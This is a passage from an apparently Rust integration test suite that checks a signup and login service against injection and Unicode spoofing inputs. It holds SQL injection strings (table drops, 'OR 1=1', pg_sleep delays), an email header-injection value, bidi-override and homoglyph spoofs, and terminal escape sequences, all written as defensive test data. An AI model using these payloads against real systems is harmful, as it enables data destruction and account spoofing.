    // Trimmed: Unicode whitespace at the ends, including NEL (U+0085, both White_Space and Cc).
    (" \u{3000}Ada\u{00A0}\t", "Ada"),
    ("\u{85}Ada\u{85}", "Ada"),
    ("\u{1680}Ada\u{205F}", "Ada"),
];

/// Names a signup refuses (422, field `name`).
const NAMES_REJECTED: &[&str] = &[
    // Format characters (Cf): bidi overrides and isolates, zero-width joiners, BOM, tags.
    "\u{202E}evil\u{202C}",
    "admin\u{202E}gpj.exe",
    "\u{2066}isolate\u{2069}",
    "👩\u{200D}👩\u{200D}👧\u{200D}👦",
    "a\u{200D}b\u{200C}c",
    "\u{FEFF}Ada\u{FEFF}",
    "A\u{E0041}\u{E007F}",
    // Line and paragraph separators inside a name (Zl, Zp).
    "line\u{2028}separator\u{2029}x",
    // Nothing visible: zero-width space, Hangul filler, private use and noncharacters.
    "\u{200B}",
    "\u{3164}",
    "\u{E000}\u{FFFF}\u{10FFFF}",
    "a\u{0}b",
    "Ada\u{1b}[2J",
    "a\nb",
    "a\rb",
    "\u{7f}",
    "a\u{85}b",
    "a\u{9b}31mb",
    "",
    "  \u{3000}\u{2028} ",
];

#[tokio::test]
async fn sql_looking_and_unicode_tricky_names_are_stored_byte_for_byte() {
    let app = TestApp::builder().gotrue().spawn().await;
    let mut ids = Vec::new();
    for (i, (sent, stored)) in NAMES_STORED.iter().enumerate() {
        let email = format!("name{i}@example.com");
        let started = Instant::now();
        let (status, body) =
            status_json(app.signup(&signup_body(sent, &email, "Creator")).await).await;
        assert_eq!(status, 201, "{sent:?}: {body}");
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "{sent:?} took {:?}",
            started.elapsed()
        );
        assert_eq!(body["name"].as_str(), Some(*stored), "{sent:?}");
        let id: Uuid = body["user_id"].as_str().unwrap().parse().unwrap();
        let (profile_name, meta_name): (String, String) = sqlx::query_as(
            "select p.name, u.raw_user_meta_data->>'name' from public.profiles p \
             join auth.users u on u.id = p.id where p.id = $1",
        )
        .bind(id)
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
        assert_eq!(profile_name.as_bytes(), stored.as_bytes(), "{sent:?}");
        assert_eq!(meta_name.as_bytes(), stored.as_bytes(), "{sent:?}");
        ids.push((email, *stored));
    }
    for (i, sent) in NAMES_REJECTED.iter().enumerate() {
        let email = format!("rejected{i}@example.com");
        let (status, body) =
            status_json(app.signup(&signup_body(sent, &email, "Creator")).await).await;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (422, Some("validation_failed")),
            "{sent:?}: {body}"
        );
        assert!(
            body["error"]["fields"]["name"].is_string(),
            "{sent:?}: {body}"
        );
    }
    let too_long = "\u{e9}".repeat(101);
    let (status, _) = status_json(
        app.signup(&signup_body(&too_long, "long@example.com", "Creator"))
            .await,
    )
    .await;
    assert_eq!(status, 422);

    // Nothing executed: the tables are there, with exactly the accepted signups.
    let n = NAMES_STORED.len() as i64;
    assert_tables_intact(&app.db).await;
    assert_eq!(support::counts(&app.db).await, (n, n, n));

    // The read path gives the names back verbatim too (login → profile).
    sqlx::query("update auth.users set email_confirmed_at = now()")
        .execute(&app.db.pool)
        .await
        .unwrap();
    for (email, stored) in &ids {
        let (status, body) = status_json(app.login(email, "correct horse battery").await).await;
        assert_eq!(status, 200, "{email}: {body}");
        assert_eq!(body["profile"]["name"].as_str(), Some(*stored), "{email}");
    }
    assert_every_profile_whole(&app.db).await;
    assert_invariants(&app.db).await;
}

/// Emails that must be refused (422 `validation_failed`, field `email`) at signup and login.
const EMAILS_REJECTED: &[&str] = &[
    "\u{0430}dmin@example.com",
    "admin\u{FF20}example.com",
    "admin@exam\u{200B}ple.com",
    "\"a'; drop table x;--\"@example.com",
    "admin@example.com\u{0000}",
    "admin\u{0000}@example.com",
    "a'; drop table public.profiles;--@example.com",
    "' OR 1=1 --@example.com",
    "admin@example.com' OR '1'='1",
    "$$;select pg_sleep(10);$$@example.com",
    "admin@example.com;select pg_sleep(10)",
    "admin@example.com\r\nBcc: victim@example.com",
    "admin@example.com\u{202E}",
    "\u{FF41}dmin@example.com",
    "admin@ex\u{0430}mple.com",
    "K\u{212A}@example.com",
    "adm\u{0131}n@example.com",
    "admin@example.c\u{00F6}m",
    "admin@[127.0.0.1]",
    "admin@localhost",
    "admin@example.com%00",
    "admin@example.com\u{FEFF}x",
];

/// SQL-looking emails that are valid addresses (`'`, `=`, `-`, `/`, `*` are atext): stored as
/// they are (lower-cased), found by GoTrue as they are.
const EMAILS_SQL_BUT_VALID: &[&str] = &[
    "x'or'1'='1@example.com",
    "O'Neil@Example.com",
    "admin'--@example.com",
    "admin/*x*/@example.com",
];

#[tokio::test]
async fn unicode_and_sql_looking_emails_are_rejected_or_stored_verbatim_never_executed() {
    let app = TestApp::builder().gotrue().spawn().await;
    let (status, _) = status_json(
        app.signup(&signup_body("Admin", "admin@example.com", "Creator"))
            .await,
    )
    .await;
    assert_eq!(status, 201);

    for email in EMAILS_REJECTED {
        let (status, body) =
            status_json(app.signup(&signup_body("Spoof", email, "Creator")).await).await;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (422, Some("validation_failed")),
            "signup {email:?}: {body}"
        );
        assert!(
            body["error"]["fields"]["email"].is_string(),
            "{email:?}: {body}"
        );

        let (status, body) = status_json(app.login(email, "correct horse battery").await).await;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (422, Some("validation_failed")),
            "login {email:?}: {body}"
        );
        assert!(
            body["error"]["fields"]["email"].is_string(),
            "{email:?}: {body}"
        );
    }
    assert!(
        app.double().calls_to(Endpoint::Token).is_empty(),
        "a refused email never reaches GoTrue"
    );
    assert_eq!(
        support::counts(&app.db).await,
        (1, 1, 1),
        "no refused email wrote a row"
    );

    for (i, email) in EMAILS_SQL_BUT_VALID.iter().enumerate() {
        let (status, body) = status_json(
            app.signup(&signup_body(&format!("Valid {i}"), email, "Brand"))
                .await,
        )
        .await;
        assert_eq!(status, 201, "{email:?}: {body}");
        let expected = email.to_ascii_lowercase();
        assert_eq!(body["email"].as_str(), Some(expected.as_str()));
        let id: Uuid = body["user_id"].as_str().unwrap().parse().unwrap();
        let (stored, identity_email): (String, String) = sqlx::query_as(
            "select u.email::text, i.identity_data->>'email' from auth.users u \
             join auth.identities i on i.user_id = u.id where u.id = $1",
        )
        .bind(id)
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
        assert_eq!(
            (stored.as_str(), identity_email.as_str()),
            (expected.as_str(), expected.as_str())
        );
        // GoTrue (the double: a bound parameter, as GoTrue does) finds exactly that user.
        let (status, body) = status_json(app.login(email, "correct horse battery").await).await;
        assert_eq!(
            (status, body["error"]["code"].as_str()),
            (403, Some("email_not_confirmed")),
            "{email:?}: {body}"
        );
    }

    let n = 1 + EMAILS_SQL_BUT_VALID.len() as i64;
    assert_eq!(support::counts(&app.db).await, (n, n, n));
    assert_tables_intact(&app.db).await;
    assert_every_profile_whole(&app.db).await;
    assert_invariants(&app.db).await;
}

#[tokio::test]
async fn lone_surrogates_and_raw_control_bytes_in_json_strings_are_400() {
    let app = TestApp::builder().gotrue().spawn().await;
    for body in [
        r#"{"name":"\ud800","email":"s1@example.com","password":"correct horse battery","role":"Creator"}"#,
        r#"{"name":"\udc00\ud800","email":"s2@example.com","password":"correct horse battery","role":"Creator"}"#,
        "{\"name\":\"a\u{0}b\",\"email\":\"s3@example.com\",\"password\":\"correct horse battery\",\"role\":\"Creator\"}",
        "{\"name\":\"a\nb\",\"email\":\"s4@example.com\",\"password\":\"correct horse battery\",\"role\":\"Creator\"}",
    ] {
        for path in [SIGNUP, LOGIN] {
            let (status, answer) =
                status_json(app.post_raw(path, Some("application/json"), body).await).await;
            assert_eq!(
                (status, answer["error"]["code"].as_str()),
                (400, Some("invalid_json")),
                "{path} {body:?}: {answer}"
            );
        }
    }
    assert_eq!(support::counts(&app.db).await, (0, 0, 0));
    assert_invariants(&app.db).await;
}
